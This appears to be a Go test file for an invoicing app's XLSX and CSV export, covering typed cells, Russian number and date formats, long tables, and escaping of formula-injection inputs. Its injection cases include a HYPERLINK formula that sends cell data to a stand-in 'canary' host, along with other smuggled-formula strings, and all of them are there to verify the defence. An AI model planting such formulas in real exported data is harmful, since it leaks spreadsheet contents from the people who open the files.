package tables_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"acts24/acts"
	"acts24/handlers/tables"
)

var columns = []tables.Column{{Title: "Номер", Width: 12}, {Title: "Дата"}, {Title: "Сумма"}, {Title: "Цена"}, {Title: "Строка"}, {Title: "Пусто"}}

var (
	day   = time.Date(2026, 11, 5, 0, 0, 0, 0, time.UTC)
	price = decimal.RequireFromString("1234.5678")
)

// rows are cells of every kind.
var rows = [][]any{
	{"0012", day, acts.Kopecks(123456789), price, 1, nil},
	{"", time.Time{}, acts.Kopecks(-5), decimal.NewFromInt(3), 0, ""},
}

func workbook(t *testing.T, rows [][]any) *excelize.File {
	t.Helper()
	var out bytes.Buffer
	w, err := tables.NewWorkbook(&out, "Акты", columns)
	if err != nil {
		t.Fatal(err)
	}
	fill(t, w, rows)
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func text(t *testing.T, rows [][]any) (raw string, records [][]string) {
	t.Helper()
	var out bytes.Buffer
	w, err := tables.NewCSV(&out, columns)
	if err != nil {
		t.Fatal(err)
	}
	fill(t, w, rows)
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\uFEFF")))
	r.Comma = ';'
	if records, err = r.ReadAll(); err != nil {
		t.Fatal(err)
	}
	return out.String(), records
}

func fill(t *testing.T, w tables.Table, rows [][]any) {
	t.Helper()
	for _, r := range rows {
		if err := w.Row(r...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Finish(); err != nil {
		t.Fatal(err)
	}
}

// A workbook has numbers as numbers and days as dates, and shows them the Russian way.
func TestWorkbookIsTyped(t *testing.T) {
	t.Parallel()
	f := workbook(t, rows)
	for cell, want := range map[string]struct {
		kind       excelize.CellType
		raw, shown string
	}{
		"A1": {excelize.CellTypeInlineString, "Номер", "Номер"},
		"A2": {excelize.CellTypeInlineString, "0012", "0012"},
		"B2": {excelize.CellTypeNumber, "46331", "05.11.2026"},
		"C2": {excelize.CellTypeNumber, "1234567.89", "1,234,567.89"}, // separators are those of the reader's language
		"D2": {excelize.CellTypeNumber, "1234.5678", "1234.5678"},
		"E2": {excelize.CellTypeNumber, "1", "1"},
		"C3": {excelize.CellTypeNumber, "-0.05", "-0.05"},
		"A3": {excelize.CellTypeUnset, "", ""}, "B3": {excelize.CellTypeUnset, "", ""}, "F3": {excelize.CellTypeUnset, "", ""},
	} {
		kind, err := f.GetCellType("Акты", cell)
		raw, wrong := f.GetCellValue("Акты", cell, excelize.Options{RawCellValue: true})
		shown, bad := f.GetCellValue("Акты", cell)
		if err != nil || wrong != nil || bad != nil {
			t.Fatal(err, wrong, bad)
		}
		if kind == excelize.CellTypeUnset && raw != "" { // a cell with a number has no type
			kind = excelize.CellTypeNumber
		}
		if kind != want.kind || raw != want.raw || shown != want.shown {
			t.Errorf("%s: kind %d, %q shown as %q; want %d, %q, %q", cell, kind, raw, shown, want.kind, want.raw, want.shown)
		}
	}
	panes, err := f.GetPanes("Акты")
	if width, _ := f.GetColWidth("Акты", "A"); err != nil || !panes.Freeze || panes.YSplit != 1 || width != 12 {
		t.Errorf("panes %+v, width %v, %v", panes, width, err)
	}
	if names := f.GetDefinedName(); len(names) != 1 || names[0].RefersTo != "'Акты'!$A$1:$F$3" {
		t.Errorf("the filter is %+v", names)
	}
}

func TestCSVIsRussian(t *testing.T) {
	t.Parallel()
	raw, _ := text(t, rows)
	want := "\uFEFFНомер;Дата;Сумма;Цена;Строка;Пусто\r\n0012;05.11.2026;1234567,89;1234,5678;1;\r\n;;-0,05;3;0;\r\n"
	if raw != want {
		t.Errorf("%q, want %q", raw, want)
	}
}

// The name of a counterparty never becomes a formula in Excel.
func TestFormulasAreText(t *testing.T) {
	t.Parallel()
	for typed, want := range map[string]string{ // in CSV
		`=HYPERLINK("http://canary/?"&A1)`: `'=HYPERLINK("http://canary/?"&A1)`,
		"+1":                               "'+1", "-1+1": "'-1+1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "' =1", "\r=1": "' =1", "\n=1": "' =1", ";=1+1": "';=1+1",
		`"=1`: `'"=1`, "＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠SUM": "'＠SUM", " =1": "' =1", "\u00a0=1": "'\u00a0=1", "'=1": "''=1", "«=1»": "'«=1»",
		"\u200b=1": "'=1", "\ufeff=1": "'=1", "\x00=1": "' =1",
		"ООО «Ёлочка»": "ООО «Ёлочка»", "А-1": "А-1", "7701010101": "7701010101", "1-2": "1-2", "": "", "две\r\nстроки": "две  строки", "a;b": "a;b", "—": "—",
	} {
		_, records := text(t, [][]any{{typed, nil, nil, nil, nil, nil}})
		if len(records) != 2 || records[1][0] != want {
			t.Errorf("%q is %q in CSV, want %q", typed, records[1:], want)
		}
		f := workbook(t, [][]any{{typed, nil, nil, nil, nil, nil}})
		kind, err := f.GetCellType("Акты", "A2")
		formula, _ := f.GetCellFormula("Акты", "A2")
		if err != nil || typed != "" && kind != excelize.CellTypeInlineString || formula != "" {
			t.Errorf("%q has kind %d and formula %q in a workbook, %v", typed, kind, formula, err)
		}
	}
}

// A text longer than a cell is cut, and many rows come back in their order.
func TestLongTables(t *testing.T) {
	t.Parallel()
	many := [][]any{{strings.Repeat("ж", 40_000), nil, nil, nil, nil, nil}}
	for i := range 3000 {
		many = append(many, []any{fmt.Sprint(i), day, acts.Kopecks(i), nil, i, nil})
	}
	f := workbook(t, many)
	got, err := f.GetRows("Акты", excelize.Options{RawCellValue: true})
	if err != nil || len(got) != 3002 || len([]rune(got[1][0])) != 32_767 {
		t.Fatalf("%d rows, %v", len(got), err)
	}
	for i := range 3000 {
		if row := got[i+2]; row[0] != fmt.Sprint(i) || row[4] != fmt.Sprint(i) {
			t.Fatalf("row %d is %q", i, row)
		}
	}
}
